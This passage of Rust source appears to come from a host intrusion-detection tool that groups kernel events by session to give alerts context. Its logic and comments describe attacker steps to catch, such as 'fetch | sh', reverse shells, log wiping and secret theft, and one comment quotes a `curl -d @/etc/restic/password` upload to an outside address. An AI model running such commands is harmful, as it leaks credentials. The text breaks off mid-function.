//! Session context: what the same process tree (session) or container did shortly
//! before and after an alert. Indexed once (activities sorted by time per session), so
//! that looking up the context of an alert costs a binary search, not a scan.

use std::collections::HashMap;

use crate::catalogue::Catalogue;
use crate::evidence::{
    activity, attack_step, host_is_outside, is_inside, role, server_ip, url_hosts, Activity, Role,
    Step, MAX_ANCESTORS,
};
use crate::input::{int, text, value_text, Record};

/// How far before and after an alert the session is looked at, in nanoseconds.
pub const WINDOW_NS: u64 = 10 * 60 * 1_000_000_000;

/// How close a shell reading its standard input must follow a fetch to stdout for the two
/// to be one `fetch | sh`, in nanoseconds.
pub const PIPE_NS: u64 = 5 * 1_000_000_000;

/// At most this many activities are looked at around one alert.
const MAX_SCANNED: usize = 4096;

/// The session key of a record: container id plus session id. `None` when the record
/// carries no session id (alerts do not), so no context can be drawn.
pub fn key(r: &Record) -> Option<String> {
    let sid = int(&r.event, "proc.sid").filter(|s| *s > 1)?;
    let container = text(&r.event, "container.id").unwrap_or_else(|| "host".into());
    let host = r.hostname.clone().unwrap_or_default();
    let mut k = String::new();
    spell_key(&mut k, &host, &container, sid);
    Some(k)
}

/// The one spelling of session and process keys: host, container, id.
fn spell_key(out: &mut String, host: &str, container: &str, id: i64) {
    use std::fmt::Write;
    out.clear();
    let _ = write!(out, "{host}/{container}/{id}");
}

/// The key of a process (host, container, pid) in the same spelling as [`key`].
fn pid_key(r: &Record, pid: i64) -> String {
    let container = text(&r.event, "container.id").unwrap_or_else(|| "host".into());
    let host = r.hostname.clone().unwrap_or_default();
    let mut k = String::new();
    spell_key(&mut k, &host, &container, pid);
    k
}

/// The pids of the runtimes and login daemons in the lineage of record `r` (its
/// `proc.apid[N]` whose `proc.aname[N]` is one).
fn entry_pids(r: &Record) -> Vec<i64> {
    (1..=crate::evidence::MAX_ANCESTORS)
        .filter_map(|level| {
            let name = text(
                &r.event,
                &crate::evidence::ancestor_key("proc.aname", level),
            )?;
            let pid = int(&r.event, &crate::evidence::ancestor_key("proc.apid", level))?;
            matches!(role(&name), Role::Runtime | Role::Login).then_some(pid)
        })
        .collect()
}

/// The pids of record `r`'s ancestors (`proc.ppid`, `proc.apid[N]`) up to the first that
/// hosts many sessions (a service, runtime, scheduler, login daemon or init): the climb of
/// [`Sessions::linked`] and of [`Sessions::below`]'s listing.
fn ancestors_below_hosts(r: &Record) -> Vec<i64> {
    let mut out = Vec::new();
    for level in 1..=MAX_ANCESTORS {
        let pid = int(&r.event, &crate::evidence::ancestor_key("proc.apid", level))
            .or_else(|| (level == 1).then(|| int(&r.event, "proc.ppid")).flatten());
        let name = text(
            &r.event,
            &crate::evidence::ancestor_key("proc.aname", level),
        )
        .or_else(|| (level == 1).then(|| text(&r.event, "proc.pname")).flatten());
        let (Some(pid), Some(name)) = (pid.filter(|p| *p > 1), name) else {
            break;
        };
        if hosts_many_sessions(&name) {
            break;
        }
        out.push(pid);
    }
    out
}

/// The pid of the login program (`login`, a per-connection `sshd`) that started the
/// leader of record `r`'s session, if the walk up `r`'s lineage reaches the leader (the
/// process whose pid is the session id) and its parent is one: the login that opened the
/// session (see `Sessions::list_below`).
fn login_above_leader(r: &Record) -> Option<i64> {
    let sid = int(&r.event, "proc.sid").filter(|s| *s > 1)?;
    let mut child = int(&r.event, "proc.pid")?;
    for level in 1..=MAX_ANCESTORS {
        let pid = int(&r.event, &crate::evidence::ancestor_key("proc.apid", level))
            .or_else(|| (level == 1).then(|| int(&r.event, "proc.ppid")).flatten())?;
        let name = text(
            &r.event,
            &crate::evidence::ancestor_key("proc.aname", level),
        )
        .or_else(|| (level == 1).then(|| text(&r.event, "proc.pname")).flatten())?;
        if child == sid {
            return (role(&name) == Role::Login && pid > 1).then_some(pid);
        }
        if hosts_many_sessions(&name) {
            return None;
        }
        child = pid;
    }
    None
}

/// What counting a plain event in its session needs (see [`Sessions::count_plain`]).
#[derive(Clone, Copy, Debug, Default)]
pub struct PlainEvent<'a> {
    /// The line's `hostname`, if any.
    pub host: &'a str,
    /// `container.id` as text (`host` when absent).
    pub container: &'a str,
    /// `proc.sid`.
    pub sid: Option<i64>,
    /// `proc.pid`.
    pub pid: Option<i64>,
}

/// Ancestors whose session is not the person's or the job's own: a service, a runtime, a
/// scheduler, a CI runner, a login daemon or init hosts many unrelated sessions, so the
/// walk up the lineage stops there.
fn hosts_many_sessions(name: &str) -> bool {
    matches!(
        role(name),
        Role::Service | Role::Runtime | Role::Scheduler | Role::CiRunner | Role::Login | Role::Init
    )
}

/// One weighed activity of a session.
#[derive(Clone, Debug, PartialEq)]
pub struct Act {
    /// Event time (ns), when the event has one.
    pub time: Option<u64>,
    /// The record.
    pub index: usize,
    /// What happened.
    pub activity: Activity,
    /// The catalogue entry that explains it (a backup agent reading keys, a binary a
    /// compiler wrote in the same session), if any.
    pub excused: Option<String>,
    /// For an executed dropped binary: its parent's name.
    parent: Option<String>,
    /// The activity reached a host that may be outside the site: a connection to an
    /// address not inside the host's or its private networks (or of unknown address), a
    /// contact with such a host, a download.
    pub outside: bool,
    /// A decisive step ([`decisive`]) its record shows besides an activity of another kind
    /// (a copy tool's upload that sends key material: `Activity::Outbound` or `Contact`,
    /// and `Step::KeySent`), for [`container_step`], which reads activities alone.
    decisive: Option<(Step, String)>,
}

/// One thing the session did, relative to the alert.
#[derive(Clone, Debug, PartialEq)]
pub struct Context<'a> {
    /// The activity.
    pub act: &'a Act,
    /// True when it came before the alert.
    pub before: bool,
}

/// An alert in a session, for "other suspicious alerts".
#[derive(Clone, Debug, PartialEq)]
struct SessionAlert {
    time: Option<u64>,
    index: usize,
    rule: String,
}

/// One session.
#[derive(Debug, Default)]
pub struct Session {
    /// How many plain events (not alert lines) of the session quell saw.
    pub events: usize,
    acts: Vec<Act>,
    timed: bool,
    /// Files written in drop directories or where programs are installed: path -> writer's
    /// name.
    writers: HashMap<String, String>,
    /// Logs the session created (under `/var/log/`, opened with `O_CREAT` or `creat`):
    /// path -> creator's name ([`Step::LogDestroyed`]).
    logs_created: HashMap<String, String>,
    suspicious: Vec<SessionAlert>,
    /// quell saw the session start: its leader's (pid = sid) execution.
    leader_seen: bool,
    /// Its leader was started by init (a service manager's unit: `ExecStart`,
    /// `ExecStartPost`, a timer's service), as quell saw that execution.
    unit_started: bool,
    /// The session is listed under its ancestors' pids in [`Sessions::below`].
    listed_below: bool,
    /// Files the session made as copies of a shell or an interpreter
    /// ([`crate::evidence::copies_shell`]).
    shell_copies: std::collections::HashSet<String>,
}

impl Session {
    /// Whether a step of this session gives a shell or an interpreter the setuid or setgid
    /// bit: by name, or as a copy the session made ([`crate::evidence::copies_shell`]).
    fn gives_shell_setid(&self, st: Step, what: &str) -> bool {
        st == Step::SetId
            && crate::evidence::gives_shell_setid(what, &|p| self.shell_copies.contains(p))
    }

    /// What an execution of the session tells whether or not it is an activity: its
    /// leader's start (`seen_whole`), and a copy of a shell or an interpreter it made
    /// ([`Sessions::gives_shell_setid`]).
    fn note_exec(&mut self, r: &Record) {
        if is_leader_exec(r) {
            self.leader_seen = true;
            self.unit_started = text(&r.event, "proc.pname")
                .is_some_and(|p| crate::evidence::role(&p) == crate::evidence::Role::Init);
        }
        // Every execution passes here: the command line is borrowed, and `copies_shell`
        // allocates nothing for a program that is no copier.
        if crate::evidence::is_exec(&r.event) {
            if let Some(cmd) = r.event.get("proc.cmdline").and_then(value_text) {
                self.shell_copies
                    .extend(crate::evidence::copies_shell(&cmd));
            }
        }
    }
}

/// A schedule entry written: its time, record index, path and whose jobs it can start.
type ScheduleWrite = (Option<u64>, usize, String, crate::evidence::ScheduleScope);

/// Events grouped by session: the kernel session id within a container (or the host).
#[derive(Debug, Default)]
pub struct Sessions {
    by_key: HashMap<String, u32>,
    /// The session of each process quell saw (host/container/pid).
    by_pid: HashMap<String, u32>,
    /// The session of each record, by record index (`None`: no session).
    keys: Vec<Option<u32>>,
    sessions: Vec<Session>,
    /// Scheduler entries (cron, at, systemd units) written by a process no catalogue
    /// entry explains, per host/container: (time, record index, path, whose jobs it can
    /// start).
    schedules: HashMap<String, Vec<ScheduleWrite>>,
    /// Processes that show a login from outside the site (a login daemon's accept, an
    /// `SSH_CONNECTION` in the environment), by host/container/pid: the client's address.
    logins_from_outside: HashMap<String, String>,
    /// Processes that accepted a connection from outside the site, whatever program they
    /// are (a daemon answering the internet), by host/container/pid: the client's address.
    served_outside: HashMap<String, String>,
    /// A runtime client's `exec` into a container run on the host (`docker exec -it web
    /// sh`), per host: see [`Sessions::issuer`].
    runtime_execs: HashMap<String, Vec<RuntimeExec>>,
    /// The steps toward an attack each container's sessions took (host/container), and
    /// those of the sessions each host's service manager started (host/`host`), in time
    /// order, made once by [`Sessions::finish`]: see [`Sessions::container_trace`] and
    /// [`Sessions::unit_trace`].
    container_steps: HashMap<String, Vec<ContainerStep>>,
    /// The sessions that were started below each process (by
    /// host/container/pid of its ancestors, up to the first that hosts many sessions): see
    /// [`Sessions::below_trace`].
    below: HashMap<String, Vec<u32>>,
}

/// A step toward an attack one session of a container took ([`Sessions::container_trace`]).
#[derive(Debug)]
struct ContainerStep {
    time: Option<u64>,
    slot: u32,
    en: &'static str,
    ja: &'static str,
    what: String,
}

/// What an activity shows toward an attack for [`Sessions::container_trace`], read from the
/// activity alone: a decisive step ([`decisive`]), a hidden staging file, a write into
/// root's login keys, a download from outside the site, an unexplained dropped program.
fn container_step(a: &Act) -> Option<(&'static str, &'static str, String)> {
    match &a.activity {
        Activity::Download(_, cmd) if a.outside => Some((
            "a download from outside the site",
            "サイト外からのダウンロード",
            cmd.clone(),
        )),
        Activity::ExecDropped(p) if a.excused.is_none() => Some((
            "a program run from a drop directory",
            "一時ディレクトリなどに置かれたプログラムの実行",
            p.clone(),
        )),
        Activity::Step(st, what) if decisive(*st, what) => {
            Some((st.as_str(), st.as_str_ja(), what.clone()))
        }
        // What an intruder comes to a workload for, asked in another of its sessions: the
        // orchestrator's secrets, a search for keys, a whole store dropped (holdout12: a log
        // agent's own API call while an `exec` session in its pod listed the secrets).
        Activity::Step(
            st @ (Step::SecretsRequest | Step::KeySearch | Step::StoreDestroyed),
            what,
        ) => Some((st.as_str(), st.as_str_ja(), what.clone())),
        Activity::Download(_, cmd) | Activity::FetchToStdout(_, cmd)
            if crate::evidence::cmdline_fetches_secrets(cmd) =>
        {
            Some((
                Step::SecretsRequest.as_str(),
                Step::SecretsRequest.as_str_ja(),
                cmd.clone(),
            ))
        }
        Activity::WroteFile(p, _) if crate::evidence::hidden_staging(p) => Some((
            Step::HiddenStaging.as_str(),
            Step::HiddenStaging.as_str_ja(),
            p.clone(),
        )),
        Activity::PersistenceWrite(p, _) if crate::evidence::root_login_key(p) => Some((
            Step::PrivilegedWrite.as_str(),
            Step::PrivilegedWrite.as_str_ja(),
            p.clone(),
        )),
        // The record's decisive step behind an activity of another kind (the blind
        // holdout32: a unit's added `curl -d @/etc/restic/password` to an outside address).
        _ => a
            .decisive
            .as_ref()
            .map(|(st, what)| (st.as_str(), st.as_str_ja(), what.clone())),
    }
}

/// Notes a log the session creates (under `/var/log/`), and returns the path when record
/// `r` removes such a log that another program of the same session created
/// ([`Step::LogDestroyed`]): a rotation's fresh copy deleted by hand right after the
/// rotation emptied the live log leaves nothing of the records (holdout11: an intruder
/// in an admin's session forcing the web server's rotation, then deleting the copy that held
/// the requests that planted a web shell). A rotation removing its own uncompressed copy,
/// or old archives of earlier runs, is not one.
fn log_destroyed(sess: &mut Session, r: &Record) -> Option<String> {
    let ev = &r.event;
    let ty = text(ev, "evt.type")?;
    let name = text(ev, "proc.name").unwrap_or_default();
    let ok = int(ev, "evt.rawres").is_none_or(|x| x >= 0);
    if !ok {
        return None;
    }
    match ty.as_str() {
        "open" | "openat" | "openat2" | "creat" => {
            let flags = text(ev, "evt.arg.flags").unwrap_or_default();
            if ty != "creat" && !flags.contains("O_CREAT") {
                return None;
            }
            let path = text(ev, "fd.name").or_else(|| text(ev, "evt.arg.name"))?;
            if path.starts_with("/var/log/") {
                sess.logs_created.entry(path).or_insert(name);
            }
            None
        }
        "unlink" | "unlinkat" => {
            let path = ["fs.path.name", "evt.arg.path", "evt.arg.name"]
                .iter()
                .find_map(|k| text(ev, k))?;
            let creator = sess.logs_created.get(&path)?;
            (*creator != name).then_some(path)
        }
        _ => None,
    }
}

/// A runtime client's `exec` command seen on a host, run from a session of that host.
#[derive(Debug)]
struct RuntimeExec {
    time: Option<u64>,
    /// The words after `exec` that may name the container or pod (options left out).
    targets: Vec<String>,
    /// The session that ran it.
    slot: Option<u32>,
    /// The address outside the site that session's login came from, if any.
    outside: Option<String>,
}

/// The words of a runtime client's command line that may name the container an `exec`
/// enters: the plain words after an `exec` word, up to `--`, at most four. `None` when the
/// command is no `exec`.
fn exec_targets(cmdline: &str) -> Option<Vec<String>> {
    let mut words = cmdline.split_whitespace().skip(1);
    words.by_ref().find(|w| *w == "exec")?;
    Some(
        words
            .take_while(|w| *w != "--")
            .filter(|w| !w.starts_with('-'))
            .take(4)
            .map(str::to_string)
            .collect(),
    )
}

/// The host/container part of a record's keys.
fn place(r: &Record) -> String {
    let container = text(&r.event, "container.id").unwrap_or_else(|| "host".into());
    format!("{}/{container}", r.hostname.as_deref().unwrap_or_default())
}

impl Sessions {
    /// Indexes records by session, with the catalogue to tell known agents' activity.
    pub fn build(records: &[Record], catalogue: &Catalogue) -> Sessions {
        let mut s = Sessions::default();
        for (i, r) in records.iter().enumerate() {
            s.push(i, r, catalogue);
        }
        s.finish(catalogue);
        s
    }

    /// Indexes records without a catalogue (nothing is excused).
    pub fn new(records: &[Record]) -> Sessions {
        Sessions::build(records, &Catalogue::default())
    }

    /// Counts a record that is neither an alert nor a weighed activity in its session.
    pub fn count_event(&mut self, r: &Record) {
        if r.rule.is_some() {
            return;
        }
        if let Some(k) = key(r) {
            let id = match self.by_key.get(&k) {
                Some(id) => *id,
                None => {
                    self.sessions.push(Session::default());
                    let id = (self.sessions.len() - 1) as u32;
                    self.by_key.insert(k, id);
                    id
                }
            };
            if let Some(s) = self.sessions.get_mut(id as usize) {
                s.events += 1;
                // What an execution tells of the session whether or not it is an
                // activity, as `push` notes it, so that streaming and batch agree.
                s.note_exec(r);
            }
            self.note_pid(r, id);
        }
        self.note_runtime_exec(r);
    }

    /// [`Sessions::count_event`] of an event line (not an alert line) from its parts, with
    /// `buf` reused for the keys: no copy of the event, no allocation for a known session
    /// or process.
    pub fn count_plain(&mut self, e: &PlainEvent<'_>, buf: &mut String) {
        let Some(sid) = e.sid.filter(|s| *s > 1) else {
            return;
        };
        spell_key(buf, e.host, e.container, sid);
        let id = match self.by_key.get(buf.as_str()) {
            Some(id) => *id,
            None => {
                self.sessions.push(Session::default());
                let id = (self.sessions.len() - 1) as u32;
                self.by_key.insert(buf.clone(), id);
                id
            }
        };
        if let Some(s) = self.sessions.get_mut(id as usize) {
            s.events += 1;
        }
        if let Some(pid) = e.pid.filter(|p| *p > 1) {
            spell_key(buf, e.host, e.container, pid);
            if !self.by_pid.contains_key(buf.as_str()) {
                self.by_pid.insert(buf.clone(), id);
            }
        }
    }

    /// Notes a runtime client's `exec` into a container run from a session of the host
    /// (not a runtime's own plumbing: a runtime started by a runtime, `runc exec` under
    /// the shim), so that the container session it opens is linked to the session that
    /// issued it ([`Sessions::issuer`]).
    fn note_runtime_exec(&mut self, r: &Record) {
        let ev = &r.event;
        let exec = text(ev, "evt.type").is_some_and(|t| t == "execve" || t == "execveat")
            && int(ev, "evt.rawres").is_none_or(|x| x == 0);
        let on_host = text(ev, "container.id").is_none_or(|c| c.is_empty() || c == "host");
        let name = text(ev, "proc.name").unwrap_or_default();
        let parent = text(ev, "proc.pname").unwrap_or_default();
        if !exec || !on_host || role(&name) != Role::Runtime || role(&parent) == Role::Runtime {
            return;
        }
        let Some(targets) = text(ev, "proc.cmdline").and_then(|c| exec_targets(&c)) else {
            return;
        };
        let slot = key(r).and_then(|k| self.by_key.get(&k).copied());
        let outside = self.entered_from_outside(r);
        self.runtime_execs
            .entry(r.hostname.clone().unwrap_or_default())
            .or_default()
            .push(RuntimeExec {
                time: ev.timestamp_ns(),
                targets,
                slot,
                outside,
            });
    }

    /// The runtime client's `exec` on the same host that opened the container session of
    /// record `r`, where the events allow: `r` runs in a container at a terminal, and the
    /// latest `exec` before it (by time; any, when times are missing) named its container
    /// (name, or a prefix of its id of at least four characters) or its pod. Linking only
    /// adds evidence to the container session (the host session's steps, a login from
    /// outside the site); a false link never makes a session look quieter.
    fn issuer(&self, r: &Record) -> Option<&RuntimeExec> {
        let ev = &r.event;
        let id = text(ev, "container.id").filter(|c| !c.is_empty() && c != "host")?;
        if int(ev, "proc.tty").is_none_or(|t| t == 0) {
            return None;
        }
        let name = text(ev, "container.name");
        let pod = text(ev, "k8s.pod.name");
        let t0 = ev.timestamp_ns();
        self.runtime_execs
            .get(r.hostname.as_deref().unwrap_or_default())?
            .iter()
            .filter(|x| match (x.time, t0) {
                (Some(t), Some(t0)) => t <= t0,
                _ => true,
            })
            .filter(|x| {
                x.targets.iter().any(|w| {
                    Some(w) == name.as_ref()
                        || Some(w) == pod.as_ref()
                        || (w.len() >= 4 && (id.starts_with(w.as_str()) || w.starts_with(&id)))
                })
            })
            .max_by_key(|x| x.time)
    }

    fn note_pid(&mut self, r: &Record, slot: u32) {
        if let Some(pid) = int(&r.event, "proc.pid").filter(|p| *p > 1) {
            self.by_pid.entry(pid_key(r, pid)).or_insert(slot);
        }
    }

    /// Lists session `slot` (of record `r`, the first of its records `push` saw) under the
    /// pids of `r`'s ancestors up to the first that hosts many sessions
    /// ([`ancestors_below_hosts`]), once per session.
    fn list_below(&mut self, r: &Record, slot: u32) {
        match self.sessions.get_mut(slot as usize) {
            Some(s) if !s.listed_below => s.listed_below = true,
            _ => return,
        }
        // Once per session (`listed_below`), and each ancestor's pid once: no slot is
        // listed twice under one process.
        for pid in ancestors_below_hosts(r) {
            self.below.entry(pid_key(r, pid)).or_default().push(slot);
        }
        // The login program the session's leader was started by (`login` on a serial
        // console, a per-connection `sshd`) opened this session: what it did is part of
        // what that login let in (session 24, the blind holdout34: a serial console login's
        // alert clustered with the same login's sessions that then opened a reverse shell
        // or cleared the authentication log). Only the parent: above it, a listener.
        if let Some(login) = login_above_leader(r) {
            let list = self.below.entry(pid_key(r, login)).or_default();
            if !list.contains(&slot) {
                list.push(slot);
            }
        }
    }

    /// A step toward an attack taken in a session started below the process of record `at`
    /// (a login page's or a terminal server's process whose session then clears a
    /// security log, puts an account into an administrators' group or takes a decisive
    /// step of those [`Sessions::attack_trace`] weighs): what a process let in is part of
    /// what it did, as the entry of an intruder's session. Sessions of its own lineage are
    /// not "below"; the shell escape that starts a session below (a web terminal's shell)
    /// is its entry, not a step in it.
    pub fn below_trace(&self, records: &[Record], at: usize) -> Option<(Step, String)> {
        let r = records.get(at)?;
        let pid = int(&r.event, "proc.pid").filter(|p| *p > 1)?;
        let slots = self.below.get(&pid_key(r, pid))?;
        let linked = self.linked(records, at);
        for &slot in slots.iter().filter(|s| !linked.contains(s)) {
            let Some(sess) = self.sessions.get(slot as usize) else {
                continue;
            };
            for a in sess.acts.iter().take(MAX_SCANNED) {
                match &a.activity {
                    // The shell the process started is how the session below began (a web
                    // terminal's `bash -l` under its server), not a step inside it.
                    Activity::Step(Step::ShellEscape, _) => {}
                    Activity::Step(st, what) if decisive(*st, what) => {
                        return Some((*st, what.clone()))
                    }
                    Activity::Step(Step::LogCleared, p) => {
                        return Some((Step::LogCleared, p.clone()))
                    }
                    Activity::Step(Step::AccountChange, cmd)
                        if crate::evidence::cmdline_grants_admin_group(cmd).is_some() =>
                    {
                        return Some((Step::AccountChange, cmd.clone()))
                    }
                    // A decisive step behind a connection (a shell's own connection out is
                    // an outbound activity first), kept when the record was pushed.
                    _ if a.decisive.is_some() => return a.decisive.clone(),
                    _ => {}
                }
            }
        }
        None
    }

    /// The sessions whose activity counts for record `at`: its own, then those of its
    /// ancestors up to the first one that hosts many sessions (a service, runtime,
    /// scheduler, login daemon or init). A command started through `sudo` or `setsid` gets
    /// a session of its own; what the person's shell did before it is still the same
    /// person's work.
    fn linked(&self, records: &[Record], at: usize) -> Vec<u32> {
        let Some(own) = self.keys.get(at).copied().flatten() else {
            return Vec::new();
        };
        let mut out = vec![own];
        let Some(r) = records.get(at) else { return out };
        for pid in ancestors_below_hosts(r) {
            if let Some(&slot) = self.by_pid.get(&pid_key(r, pid)) {
                if !out.contains(&slot) {
                    out.push(slot);
                }
            }
        }
        out
    }

    /// The address outside the site a person's login came from, for record `r`: from its
    /// own process's environment (`SSH_CONNECTION`), else from the nearest record quell
    /// has for its ancestors up to and including the nearest login daemon (the per-session
    /// `sshd` seen accepting the client, or a shell whose environment names it). Never
    /// above that daemon: a listener above it accepts everybody's logins.
    pub fn entered_from_outside(&self, r: &Record) -> Option<String> {
        if let Some(addr) = crate::evidence::login_from_outside(&r.event) {
            return Some(addr);
        }
        let own = int(&r.event, "proc.pid").map(|pid| pid_key(r, pid));
        if let Some(addr) = own.and_then(|k| self.logins_from_outside.get(&k)) {
            return Some(addr.clone());
        }
        for level in 1..=MAX_ANCESTORS {
            let Some(name) = text(
                &r.event,
                &crate::evidence::ancestor_key("proc.aname", level),
            )
            .or_else(|| (level == 1).then(|| text(&r.event, "proc.pname")).flatten()) else {
                break;
            };
            let Some(pid) = int(&r.event, &crate::evidence::ancestor_key("proc.apid", level))
                .or_else(|| (level == 1).then(|| int(&r.event, "proc.ppid")).flatten())
            else {
                break;
            };
            if let Some(addr) = self.logins_from_outside.get(&pid_key(r, pid)) {
                return Some(addr.clone());
            }
            if crate::evidence::role(&name) == crate::evidence::Role::Login {
                return None;
            }
        }
        // A container session opened by a runtime client's `exec` from a host session:
        // that session's login.
        self.issuer(r).and_then(|x| x.outside.clone())
    }

    /// The address outside the site a connection came from that the process of record `r`,
    /// or one of its ancestors (by pid), accepted: its work answers somebody outside (a
    /// daemon's login page, a mail relay), so it is not work nobody entered.
    pub fn served_outside(&self, r: &Record) -> Option<String> {
        if let Some(addr) = crate::evidence::accepted_from_outside(&r.event) {
            return Some(addr);
        }
        let own = int(&r.event, "proc.pid");
        let ancestors = (1..=MAX_ANCESTORS).map_while(|level| {
            int(&r.event, &crate::evidence::ancestor_key("proc.apid", level))
                .or_else(|| (level == 1).then(|| int(&r.event, "proc.ppid")).flatten())
        });
        own.into_iter()
            .chain(ancestors)
            .find_map(|pid| self.served_outside.get(&pid_key(r, pid)).cloned())
    }

    /// Adds one record.
    pub fn push(&mut self, i: usize, r: &Record, catalogue: &Catalogue) {
        if let (Some(addr), Some(pid)) = (
            crate::evidence::login_from_outside(&r.event),
            int(&r.event, "proc.pid"),
        ) {
            self.logins_from_outside.insert(pid_key(r, pid), addr);
        }
        if let (Some(addr), Some(pid)) = (
            crate::evidence::accepted_from_outside(&r.event),
            int(&r.event, "proc.pid"),
        ) {
            self.served_outside.insert(pid_key(r, pid), addr);
        }
        let k = key(r);
        let slot = k.map(|k| match self.by_key.get(&k) {
            Some(id) => *id,
            None => {
                self.sessions.push(Session::default());
                let id = (self.sessions.len() - 1) as u32;
                self.by_key.insert(k, id);
                id
            }
        });
        if self.keys.len() <= i {
            self.keys.resize(i + 1, None);
        }
        self.keys[i] = slot;
        if r.rule.is_none() {
            self.note_runtime_exec(r);
        }
        let Some(slot) = slot else { return };
        self.note_pid(r, slot);
        self.list_below(r, slot);
        let Some(sess) = self.sessions.get_mut(slot as usize) else {
            return;
        };
        if r.rule.is_none() {
            sess.events += 1;
        }
        sess.note_exec(r);
        if let Some(path) = log_destroyed(sess, r) {
            sess.acts.push(Act {
                time: r.event.timestamp_ns(),
                index: i,
                activity: Activity::Step(Step::LogDestroyed, path),
                excused: None,
                parent: None,
                outside: false,
                decisive: None,
            });
            return;
        }
        let is_maint = |n: &str| catalogue.entry_for_actor(n).is_some();
        let Some(act) = activity(&r.event, &is_maint) else {
            return;
        };
        let outside = match &act {
            // An `ssh` tunnel's destination is on its command line (an exec, no address).
            Activity::Outbound(dest, _)
                if text(&r.event, "evt.type").is_some_and(|t| t.starts_with("execve")) =>
            {
                host_is_outside(dest)
            }
            Activity::Outbound(..) => server_ip(&r.event).is_none_or(|ip| !is_inside(&ip)),
            Activity::Contact(_, _, o) => *o,
            Activity::Download(..) | Activity::FetchToStdout(..) => true,
            _ => false,
        };
        let excused = match &act {
            Activity::CredentialRead(..) | Activity::Outbound(..) => {
                let signal = if matches!(act, Activity::CredentialRead(..)) {
                    "session_credentials"
                } else {
                    "session_outbound"
                };
                // An agent's connections are its job only toward the host's or the site's
                // own networks: a public destination is not excused (an `rsync` or an
                // agent sending data out of the site is how data leaves).
                let public = matches!(act, Activity::Outbound(..)) && outside;
                catalogue
                    .find(&r.event)
                    .filter(|m| m.entry.allows_signal(signal) && !public)
                    .map(|m| m.entry.name.clone())
            }
            // A known agent itself (a package manager, configuration management) writes
            // units, cron entries and keys by design; a generic program its session runs
            // (`tee`, `sh`, `echo >>`) is not explained by the agent above it.
            Activity::PersistenceWrite(..) => catalogue
                .find(&r.event)
                .filter(|m| m.level == 0)
                .map(|m| m.entry.name.clone()),
            _ => None,
        };
        if let (Activity::PersistenceWrite(p, _), None) = (&act, &excused) {
            // A package manager's maintainer script installing its package's cron entry is
            // software from the repositories (the same excuse as `evidence::WorkSeen`'s index
            // of schedule writes; a local malicious package is the forgery left open).
            let by_package = crate::evidence::lineage(&r.event)
                .iter()
                .any(|(_, n, _)| crate::evidence::role(n) == crate::evidence::Role::PackageManager);
            if crate::evidence::is_schedule_entry(p) && !by_package {
                let scope = crate::evidence::schedule_scope(&r.event, p);
                self.schedules.entry(place(r)).or_default().push((
                    r.event.timestamp_ns(),
                    i,
                    p.clone(),
                    scope,
                ));
            }
        }
        if let Activity::WroteFile(p, w) = &act {
            sess.writers.insert(p.clone(), w.clone());
        }
        let parent = match &act {
            Activity::ExecDropped(_) => text(&r.event, "proc.pname"),
            _ => None,
        };
        let decisive = (!matches!(act, Activity::Step(..)))
            .then(|| attack_step(&r.event))
            .flatten()
            .filter(|(st, what)| decisive(*st, what));
        sess.acts.push(Act {
            time: r.event.timestamp_ns(),
            index: i,
            activity: act,
            excused,
            parent,
            outside,
            decisive,
        });
    }

    /// Sorts the activities and settles what depends on the whole session (a dropped
    /// binary that a compiler of the same session wrote).
    pub fn finish(&mut self, catalogue: &Catalogue) {
        for sess in &mut self.sessions {
            sess.timed = sess.acts.iter().all(|a| a.time.is_some());
            if sess.timed {
                sess.acts.sort_by_key(|a| (a.time, a.index));
            }
            let writers = &sess.writers;
            for a in &mut sess.acts {
                if let Activity::ExecDropped(p) = &a.activity {
                    let w = writers.get(p).map(String::as_str);
                    a.excused = catalogue
                        .built(p, w, a.parent.as_deref())
                        .map(|e| e.name.clone());
                }
            }
            sess.suspicious.sort_by_key(|a| (a.time, a.index));
        }
        self.container_steps.clear();
        for (key, slot) in &self.by_key {
            let Some((place, _sid)) = key.rsplit_once('/') else {
                continue;
            };
            let Some(sess) = self.sessions.get(*slot as usize) else {
                continue;
            };
            // On a host, only the sessions its service manager started (see
            // `Sessions::unit_trace`): people's and other jobs' sessions are unrelated.
            if place.ends_with("/host") && !sess.unit_started {
                continue;
            }
            for a in sess.acts.iter().take(MAX_SCANNED) {
                if let Some((en, ja, what)) = container_step(a) {
                    self.container_steps
                        .entry(place.to_string())
                        .or_default()
                        .push(ContainerStep {
                            time: a.time,
                            slot: *slot,
                            en,
                            ja,
                            what,
                        });
                }
            }
        }
        for steps in self.container_steps.values_mut() {
            steps.sort_by_key(|st| (st.time, st.slot));
        }
    }

    fn session_of(&self, at: usize) -> Option<&Session> {
        let slot = (*self.keys.get(at)?)?;
        self.sessions.get(slot as usize)
    }

    /// The session of record `at`, if it has one.
    pub fn session(&self, at: usize) -> Option<&Session> {
        self.session_of(at)
    }

    /// Whether quell saw the session of record `at` as events (a recording with session
    /// context, at least one other event), not only as alerts.
    pub fn seen(&self, records: &[Record], at: usize) -> bool {
        let own = records.get(at).is_some_and(|r| r.rule.is_none());
        own && self.session_of(at).is_some_and(|s| s.events >= 2)
    }

    /// Who wrote `path` in the session of record `at`, if quell saw it.
    pub fn writer(&self, at: usize, path: &str) -> Option<&str> {
        self.session_of(at)?.writers.get(path).map(String::as_str)
    }

    /// Whether the act of record `at` gives a shell or an interpreter the setuid or setgid
    /// bit ([`crate::evidence::gives_shell_setid`]), by name or as a copy its session made.
    pub fn gives_shell_setid(&self, records: &[Record], at: usize) -> bool {
        records
            .get(at)
            .and_then(|r| attack_step(&r.event))
            .is_some_and(|(st, what)| self.shell_setid(at, st, &what))
    }

    /// [`Session::gives_shell_setid`] of step `st` (touching `what`) of record `at`, in its
    /// session; by the shell's name alone when the record has no session.
    fn shell_setid(&self, at: usize, st: Step, what: &str) -> bool {
        match self.session_of(at) {
            Some(sess) => sess.gives_shell_setid(st, what),
            None => st == Step::SetId && crate::evidence::gives_shell_setid(what, &|_| false),
        }
    }

    /// A scheduler entry (cron, at, a systemd unit) that a process no catalogue entry
    /// explains wrote on the same host or container within [`WINDOW_NS`] before record
    /// `at` (its path), if quell saw one and it can have started that job
    /// ([`crate::evidence::schedule_reaches`]: another account's crontab cannot): a job a
    /// scheduler starts that soon after is likely that entry's (`* * * * *`), set up by
    /// somebody who entered a session. The
    /// window keeps one write from reaching every job of the host for good; an entry that
    /// waits longer before its first run is not linked (a stated residual).
    pub fn schedule_written_before(&self, records: &[Record], at: usize) -> Option<&str> {
        let r = records.get(at)?;
        let t0 = r.event.timestamp_ns();
        self.schedules
            .get(&place(r))?
            .iter()
            .find(|(t, i, _, scope)| {
                let before = match (t0, t) {
                    (Some(t0), Some(t)) => *t < t0 && t0 - *t <= WINDOW_NS,
